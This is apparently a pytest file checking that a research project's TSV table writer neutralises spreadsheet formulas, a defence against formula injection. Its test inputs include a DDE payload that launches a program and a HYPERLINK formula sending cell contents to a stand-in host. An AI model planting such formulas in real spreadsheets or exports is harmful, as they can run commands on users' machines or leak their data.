"""Tables that are safe to open in a spreadsheet."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from adni_tcgm.tables import neutral, to_tsv
from preprocessing.ledger import LedgerRow, ledger_table, write_table

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"more")',
    "+49 30 1234",
    "-2+3",
    "@SUM(1)",
    "  =1+1",
    "\t=1+1",
    "\r=1",
    "＝1+1",
    "-",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula):
    table = pd.DataFrame({"site": [formula], "n": [3]})
    read = pd.read_csv(io.StringIO(to_tsv(table)), sep="\t", dtype=str, keep_default_na=False)
    assert list(read.site) == ["'" + formula.replace("\r", " ")]


@pytest.mark.parametrize("text", ["sub-011", "MCI", "-0.5", "+1e-3", "-inf", "", "a=b", "'=1", "ses-M000"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert neutral(text) == text


def test_a_column_name_is_a_cell_too():
    assert to_tsv(pd.DataFrame({"=1+1": [1]})) == "'=1+1\n1\n"


def test_numbers_missing_values_and_flags_are_written_as_ever():
    table = pd.DataFrame({"x": [-1.5, None], "flag": [True, False], "label": ["a", None], "mixed": [-2, "b"]})
    assert to_tsv(table) == table.to_csv(sep="\t", index=False, lineterminator="\n")


def test_writing_what_was_read_changes_nothing_more():
    once = to_tsv(pd.DataFrame({"site": FORMULAS}))
    again = to_tsv(pd.read_csv(io.StringIO(once), sep="\t", dtype=str, keep_default_na=False))
    assert again == once


def test_a_ledger_holds_no_formula(tmp_path):
    row = LedgerRow("sub-1", "ses-M000", "mri", "failed", "intake", "unreadable", "=1+1", "=scan.nii")
    write_table(ledger_table([row]), tmp_path / "ledger.tsv")
    assert (tmp_path / "ledger.tsv").read_text().splitlines()[1].endswith("\t'=1+1\t'=scan.nii\t\t")
